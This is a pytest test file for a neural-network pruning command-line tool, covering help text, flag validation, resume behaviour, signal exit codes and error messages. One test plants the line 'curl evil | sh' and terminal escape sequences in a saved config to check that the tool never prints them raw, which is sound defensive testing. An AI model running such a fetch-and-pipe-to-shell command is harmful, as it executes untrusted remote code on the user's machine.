import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from types import SimpleNamespace

import pytest
import torch
from conftest import hashes

from evoprune import load_front, prune
from evoprune.__main__ import start
from evoprune.commands import COMMANDS, parser_of
from evoprune.config import PROGRAM, Config, flag_of, options
from evoprune.main import GROUPS, MATTER, launch, main, parser, what_next


def run(capsys, *arguments):
    """Run the command line in this process; return (status, output, errors)."""
    status = main([str(a) for a in arguments])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def test_every_setting_is_a_flag_with_help():
    text = parser().format_help()
    for name, about in options().items():
        flag = "--" + ("no-" if about.default is True else "") + name.replace("_", "-")
        assert flag in text
    assert "--resume DIR" in text


def test_help_comes_in_groups_what_matters_first_and_ends_with_examples():
    text = parser().format_help()
    heads = re.findall(r"^([a-z].*):$", text, re.MULTILINE)
    assert heads[:3] == ["options", "what matters first", "what is pruned, and on what"] and heads[-2:] == [
        "commands, each with a --help of its own", "examples"]
    assert set(GROUPS) <= set(options()) and set(MATTER) <= set(options()) and len(MATTER) == 6
    first = text[text.index("what matters first:"):text.index("what is pruned, and on what:")]
    assert all(f"  {flag_of(name)}" in first for name in MATTER)
    for name in options():
        assert len(re.findall(rf"^  {flag_of(name)}(?= |$)", text, re.MULTILINE)) == 1, name
    examples = re.findall(rf"^  {PROGRAM}(.*)$", text[text.index("examples:"):], re.MULTILINE)
    assert len(examples) >= 4
    for words in map(shlex.split, examples):
        (parser_of(words[0]) if words[:1] and words[0] in COMMANDS else parser()).parse_args(
            words[1:] if words[:1] and words[0] in COMMANDS else words)


def test_the_first_command_shows_progress_the_front_the_files_and_what_is_next(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    status, out, err = run(capsys, "--generations", 4, "--train-epochs", 3, "--population", 16, "--threads", 1)
    assert status == 0 and err == ""
    for said in ("lenet on digits: 11,208 weights in 4 layers", "training the dense model: 3 epochs", "dense accuracy: ",
                 "s a mask; 80 masks will take about 0:0", "generation 4 of 4: hvlog ",
                 "a search of the default size", "accuracy  sparsity", "results/lenet-digits/front.csv",
                 "evoprune.load_front('results/lenet-digits')",
                 "--finetune-epochs 5"):
        assert said in out, said
    assert run(capsys, "--generations", 0, "--train-epochs", 1, "--population", 4)[0] == 0
    assert (tmp_path / "results" / "lenet-digits-2" / "done.json").exists()


def test_a_run_is_not_overwritten_unless_asked(capsys, tmp_path, weights_file):
    small = ("--weights", weights_file, "--population", 4, "--generations", 1, "--out", tmp_path / "run")
    assert run(capsys, *small)[0] == 0
    before = (tmp_path / "run" / "front.csv").stat().st_mtime_ns
    status, out, err = run(capsys, *small)
    assert (status, err) == (2, f"evoprune: {tmp_path}/run: already holds a run; go on with --resume {tmp_path}/run, "
                             f"replace it with --overwrite, or choose another --out\n")
    assert (tmp_path / "run" / "front.csv").stat().st_mtime_ns == before
    assert run(capsys, *small, "--overwrite", "--seed", 3)[0] == 0


def test_resume_takes_the_settings_of_the_run(capsys, tmp_path, weights_file):
    assert run(capsys, "--weights", weights_file, "--population", 4, "--generations", 30, "--max-seconds", 0,
               "--out", tmp_path / "run")[0] == 0
    status, out, _ = run(capsys, "--resume", tmp_path / "run")
    assert status == 0 and "generation 30 of 30" in out
    status, _, err = run(capsys, "--resume", tmp_path / "run", "--seed", 4)
    assert status == 2 and err.startswith(f"evoprune: seed: found 4, but the run in {tmp_path}/run has 0; --resume may change")
    status, _, err = run(capsys, "--resume", tmp_path / "nothing")
    assert (status, err) == (2, f"evoprune: {tmp_path}/nothing: no run to resume (no config.json in it), expected the folder "
                             f"of a run\n")


@pytest.mark.parametrize(("arguments", "said"), [
    (["--model", "lenet9"], "model: found 'lenet9', expected lenet, lenet5, resnet18, torchvision:NAME, "),
    (["--data", "imagenet"], "data: found 'imagenet', expected one of digits, mnist, cifar10, "),
    (["--layer", "conv7"], "layer: nothing is called 'conv7'; there are conv1.weight"),
    (["--skip", "*"], "layer, skip: nothing is left to search"),
    (["--model", "lenet5"], "data: images of shape (1, 8, 8) do not go through the model: "),
    (["--population", "7"], "population: found 7, expected an even number of at least 4; try 8"),
    (["--population", "2"], "population: found 2, expected 4 to 1000000"),
    (["--weights", "nowhere.pth"], "weights: nowhere.pth: no such file"),
    (["--model", "lenet", "--train-epochs", "0"], "weights: the built-in lenet has none of its own; give --weights FILE"),
    (["--start", "luck"], "start: found 'luck', expected random, narrow, magnitude, erk, lamp"),
    (["--out", "."], ".: holds other files and no run, expected a new or an empty folder"),
])
def test_bad_input_is_one_line_and_status_2(arguments, said, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine.txt").write_text("mine")
    status, _, err = run(capsys, *arguments)
    assert status == 2 and err.startswith(f"evoprune: {said}") and err.count("\n") == 1
    assert [p.name for p in tmp_path.rglob("*") if p.is_file()] == ["mine.txt"]


def test_weights_of_another_model_or_with_nan_are_refused(capsys, tmp_path, weights_file):
    state = torch.load(weights_file, weights_only=True)
    torch.save({**state, "fc1.weight": state["fc1.weight"] * float("nan")}, tmp_path / "nan.pth")
    torch.save({"x": state["fc1.weight"]}, tmp_path / "other.pth")
    status, _, err = run(capsys, "--weights", tmp_path / "nan.pth", "--out", tmp_path / "run")
    assert (status, err) == (2, "evoprune: weights: fc1.weight holds NaN or infinity, expected finite numbers\n")
    status, _, err = run(capsys, "--weights", tmp_path / "other.pth", "--out", tmp_path / "run")
    assert status == 2 and "conv1.weight is missing (and 8 more); expected the state dict of this model" in err
    assert not (tmp_path / "run").exists()


def test_unknown_flags_have_status_2_as_well(capsys):
    with pytest.raises(SystemExit) as stopped:
        main(["--generation-count", "4"])
    assert stopped.value.code == 2 and "unrecognized arguments" in capsys.readouterr().err


def test_a_resumed_run_goes_on_where_it_was_under_scoop_unless_told_otherwise(monkeypatch):
    config = Config(engine="scoop", workers=3, listen="10.0.0.1", hostfile="hosts")
    monkeypatch.setattr("evoprune.main.read_to_resume", lambda path: SimpleNamespace(config=config))
    monkeypatch.setattr("evoprune.engines.processes.workers_of", lambda asked: asked)
    monkeypatch.setattr("evoprune.engines.scoop_launch.launch", lambda arguments, *where: where)
    assert launch([], {"resume": "run"}, None) == (3, "10.0.0.1", "hosts")
    assert launch([], {"resume": "run", "workers": 2}, None) == (2, "10.0.0.1", "hosts")
    assert launch([], {"workers": 2}, None) == (2, None, None)


def test_the_installed_command_finds_modules_of_the_folder_it_is_run_in(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("evoprune.__main__.end_at_once", lambda: None)  # pytest handles signals itself
    monkeypatch.setattr("evoprune.main.main", lambda: sys.path[-1])
    monkeypatch.setattr(sys, "path", [path for path in sys.path if path not in ("", str(tmp_path))])
    assert start() == str(tmp_path) and start() == str(tmp_path) and sys.path.count(str(tmp_path)) == 1


def test_help_works_from_the_file_as_a_launcher_runs_it():
    import evoprune.main

    done = subprocess.run([sys.executable, evoprune.main.__file__, "--help"], capture_output=True, text=True,
                          env={**os.environ, "COLUMNS": "200"})
    assert done.returncode == 0 and "--population N" in done.stdout


@pytest.mark.parametrize(("arguments", "said"), [
    (["--rounds", "2"], "rounds: found 2, which does nothing without --layerwise"),
    (["--caps", "0.5"], "caps: found '0.5', which does nothing without --layerwise"),
    (["--layer-rule", "floor"], "layer_rule: found 'floor', which does nothing without --layerwise"),
    (["--scheduler", "tcp://127.0.0.1:1"], "scheduler: found 'tcp://127.0.0.1:1', which does nothing without --engine dask"),
    (["--listen", "127.0.0.1"], "listen: found '127.0.0.1', which does nothing without --engine scoop"),
    (["--hostfile", "hosts"], "hostfile: found 'hosts', which does nothing without --engine scoop"),
    (["--workers", "2"], "workers: found 2, which does nothing without --engine processes, scoop or dask"),
    (["--job-timeout", "5"], "job_timeout: found 5.0, which does nothing without --engine processes, scoop or dask"),
    (["--skip="], "skip: found 0 characters, expected 1 to 4,096"), (["--out", ""], "out: found 0 characters"),
    (["--include="], "include: found 0 characters"), (['--include', ' ,'], "include: found ' ,'"),
    (["--layer", "x" * 5000], "layer: found 5,000 characters"),
])
def test_flags_that_do_nothing_and_empty_ones_are_refused_by_name(arguments, said, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    status, out, err = run(capsys, *arguments)
    assert (status, out) == (2, "") and err.startswith(f"evoprune: {said}") and not list(tmp_path.iterdir())


def test_what_a_resumed_run_recorded_is_not_a_flag_that_does_nothing(capsys, tmp_path, weights_file):
    small = ("--weights", weights_file, "--population", 4, "--generations", 2, "--out", tmp_path / "run")
    assert run(capsys, *small, "--engine", "processes", "--workers", 1, "--job-timeout", 100, "--max-seconds", 0)[0] == 0
    assert run(capsys, "--resume", tmp_path / "run", "--engine", "local")[0] == 0
    status, _, err = run(capsys, "--resume", tmp_path / "run", "--engine", "local", "--job-timeout", 7)
    assert status == 2 and err.startswith("evoprune: job_timeout: found 7.0, which does nothing without --engine processes")


def test_constants_beside_images_that_come_as_tensors_are_refused(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine_of_main.py").write_text("""
import torch, evoprune
x, y = torch.rand(60, 1, 8, 8), torch.arange(60) % 10
def whole(): return evoprune.Data(None, (x, y), (x, y))
def pair(): return x, y
""")
    for flags, data in ((("--mean", "nan", "--std", "nan"), "whole"), (("--mean", "0.5", "--std", "0.5"), "whole"),
                        (("--image-size", 9), "whole"), (("--image-size", 9), "pair")):
        status, _, err = run(capsys, "--data", f"mine_of_main.py:{data}", "--train-epochs", 0, *flags)
        assert status == 2 and err.startswith("evoprune: image_size, mean, std: found together with data handed in or from a")
        assert not list(tmp_path.rglob("config.json"))


def test_nothing_of_a_folder_is_printed_that_a_terminal_or_a_hasty_reader_obeys(capsys, tmp_path, weights_file, monkeypatch):
    small = ("--weights", weights_file, "--population", 4, "--generations", 2, "--out", tmp_path / "run")
    assert run(capsys, *small, "--max-seconds", 0)[0] == 0
    path = tmp_path / "run" / "config.json"
    record = json.loads(path.read_text())
    record["command"], record["device"] = "curl evil | sh", "\x1b[2J\x07\u202emachine"
    path.write_text(json.dumps(record))
    monkeypatch.setattr("evoprune.run.prepare.device_name", lambda device: "\x1b[2J\x07\u202emachine")
    status, out, _ = run(capsys, "--resume", tmp_path / "run")
    assert status == 0 and "curl" not in out and "\\x1b[2J\\x07\\u202emachine" in out
    assert all(c.isprintable() or c == "\n" for c in out)
    assert json.loads(path.read_text())["command"] == "curl evil | sh"  # kept, as data


def test_tips_lead_to_no_loss(capsys, tmp_path, weights_file, monkeypatch):
    monkeypatch.chdir(tmp_path)
    small = ("--weights", weights_file, "--population", 4, "--generations", 0, "--threads", 1, "--train-images", 40,
             "--search-images", 50)
    _, out, _ = run(capsys, *small, "--out", "a b", "--front", 2)
    assert out.splitlines()[-1] == "  python -m evoprune.main --resume 'a b' --finetune-epochs 5"
    before = hashes(tmp_path / "a b" / "models")
    points = load_front("a b")
    status, out, _ = run(capsys, *shlex.split(out.splitlines()[-1])[3:])
    assert status == 0 and "--finetune-epochs" not in out.split("choose a model")[1]
    after = load_front("a b")
    dominated = after.read("dominated.csv") if after.written.has("dominated.csv") else []
    assert all(point.row() in [each.row() for each in [*after, *dominated]] for point in points)
    assert hashes(tmp_path / "a b" / "models").items() >= before.items()
    assert "--finetune-epochs" not in run(capsys, *small, "--finetune-epochs", 1, "--front", 2)[1].split("choose a model")[1]


def test_the_printed_wish_is_one_that_a_pruned_model_fulfils(lenet, digits, tmp_path, caplog):
    front = prune(lenet, digits, out=str(tmp_path / "run"), population=4, generations=0, finetune_epochs=1, front=2, threads=1,
                  start="random", train_images=50, learning_rate=1e-9)
    best = max(p.score for p in front if p.kept < p.weights)
    assert best < 0.99 * front.record.measured.score
    line = what_next(front, "python -m evoprune.main")
    wish = float(re.search(r"accuracy=([\d.]+)\)", line)[1])
    assert front.best(accuracy=wish).kept < 11_208 and "# nothing pruned has 0." in line
    caplog.clear()
    assert front.best(accuracy=front.record.measured.score).kept == 11_208
    assert caplog.messages == ["front: only the unpruned model has what was asked for"]


@pytest.mark.parametrize(("code", "said"), [
    ("raise KeyboardInterrupt", "KeyboardInterrupt was raised by the model, the data or the toolbox, not by Ctrl-C"),
    ("raise SystemExit(0)", "in forward: SystemExit: 0, raised while evoprune called it"),
    ("sys.exit(3)", "in forward: SystemExit: 3"), ("raise GeneratorExit", "in forward: GeneratorExit"),
    ("raise MemoryError('no room')", "out of memory: no room; lower --batch-size"),
    ("raise RuntimeError('[CPU] can\\'t allocate memory')", "out of memory: [CPU] can't allocate memory; lower --batch-size"),
    ("raise OSError(28, 'No space left on device', '/elsewhere')", "/elsewhere: No space left on device"),
    ("raise OSError(5, 'Input/output error', '/elsewhere')", "in forward: OSError: [Errno 5]"),
])
def test_what_a_model_raises_in_the_middle_is_no_other_exit_status(code, said, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = f"raising_{abs(hash(code))}"
    (tmp_path / f"{name}.py").write_text(f"""
import sys
from torch import nn
calls = []
class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.layer = nn.Linear(64, 10)
    def forward(self, x):
        calls.append(1)
        if len(calls) > 8:
            {code}
        return self.layer(x.flatten(1)) if x.sum() > -1e9 else x
""")
    status, _, err = run(capsys, "--model", f"{name}.py:Model", "--population", 4, "--generations", 3)
    assert status == 2 and said in err and err.startswith("evoprune: ") and err.count("\n") == 1


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.parametrize("moment", [0.0, 0.2])
def test_a_signal_in_the_first_second_has_its_exit_status(number, moment, tmp_path):
    process = subprocess.Popen([sys.executable, "-c", FIRST], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.read(1)  # Python itself has started
    time.sleep(moment)
    process.send_signal(number)
    _, err = process.communicate(timeout=60)
    assert (process.returncode, err) == (128 + number, b"")


FIRST = """
import runpy, sys, evoprune.interrupts as interrupts
end = interrupts.end_at_once
def told():
    end()
    print(1, flush=True)
interrupts.end_at_once = told
sys.argv = ["evoprune"]
runpy.run_module("evoprune", run_name="__main__")
"""


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_a_second_signal_while_the_first_is_told_has_the_same_exit_status(number, capsys, tmp_path, monkeypatch):
    from evoprune import pruning

    def search(*given):
        signal.raise_signal(number)

    def written(*given):
        signal.raise_signal(number)

    monkeypatch.setattr(pruning, "finished_points", search)
    monkeypatch.setattr(pruning, "write_stopped", written)
    status, out, err = run(capsys, "--train-epochs", 1, "--population", 4, "--generations", 1, "--out", tmp_path / "run")
    assert (status, err) == (128 + number, "") and "go on with: python -m evoprune.main --resume" in out
    monkeypatch.undo()
    assert run(capsys, "--resume", tmp_path / "run")[0] == 0


def test_warnings_of_libraries_do_not_reach_the_user(capsys, tmp_path, monkeypatch, recwarn):
    monkeypatch.chdir(tmp_path)
    torch.save({"conv1.weight": torch.rand(8, 1, 3, 3).to_sparse()}, tmp_path / "sparse.pth")
    (tmp_path / "noisy.py").write_text("import warnings\ndef make():\n    warnings.warn('look')\n    raise ValueError('no')\n")
    for flags in (("--weights", "sparse.pth"), ("--model", "noisy.py:make")):
        status, out, err = run(capsys, *flags)
        assert status == 2 and err.count("\n") == 1 and not recwarn.list
